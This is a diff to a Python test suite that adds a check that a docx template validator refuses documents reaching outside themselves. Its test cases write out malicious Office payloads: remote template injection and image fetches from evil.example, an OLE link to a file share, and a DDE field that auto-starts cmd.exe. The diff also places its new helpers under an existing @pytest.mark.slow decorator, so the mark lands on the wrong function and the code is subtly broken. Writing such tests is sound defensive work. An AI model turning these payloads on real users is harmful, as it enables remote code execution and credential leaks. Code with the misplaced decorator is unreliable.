@@ -17,6 +17,7 @@ import pandas as pd
 import papertown
 import pytest
 from click.testing import CliRunner
+from docx.oxml import OxmlElement
 from test_documents import finished
 
 from planning import report, runs
@@ -231,6 +232,38 @@ def test_bombs_macros_and_broken_parts_are_refused(town: StudyResult, tmp_path: 
 
 
 @pytest.mark.slow
+def outside(paper: Any, kind: str, target: str) -> None:
+    paper.part.relate_to(target, f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}", True)
+
+
+def command(paper: Any, *pieces: str) -> None:
+    for piece in pieces:
+        field = OxmlElement("w:instrText")
+        field.text = piece
+        paper.add_paragraph().add_run()._r.append(field)
+
+
+@pytest.mark.parametrize(
+    ("reach", "harmful"),
+    [
+        (lambda paper: outside(paper, "image", "http://evil.example/x.png"), True),
+        (lambda paper: outside(paper, "attachedTemplate", "http://evil.example/x.dotm"), True),
+        (lambda paper: outside(paper, "oleObject", "file://server/x"), True),
+        (lambda paper: command(paper, "DDE", 'AUTO c:\\\\cmd.exe "/k"'), True),
+        (lambda paper: command(paper, 'INCLUDEPICTURE "http://evil.example/x.png"'), True),
+        (lambda paper: outside(paper, "hyperlink", "https://www.gov.cn"), False),
+        (lambda paper: outside(paper, "attachedTemplate", "file:///C:/Word/Normal.dotm"), False),
+        (lambda paper: command(paper, ' HYPERLINK "https://x/hidden" '), False),
+    ],
+)
+def test_a_template_that_would_fetch_or_start_something_is_refused(tmp_path: Path, reach: Any, harmful: bool) -> None:
+    paper = docx.Document()
+    paper.add_paragraph("{{ plan.name }}")
+    reach(paper)
+    paper.save(str(tmp_path / "t.docx"))
+    assert [fault.code for fault in _template.check(tmp_path / "t.docx")] == ["template_outside"] * harmful
+
+
 def test_a_run_fills_the_template_in_and_lists_it(tmp_path: Path) -> None:
     plan = papertown.write(tmp_path, more='[output]\nmaps = []\ntemplate = "t.docx"\n')
     template(tmp_path, "{{ plan.name }}：{{ run.id }}")
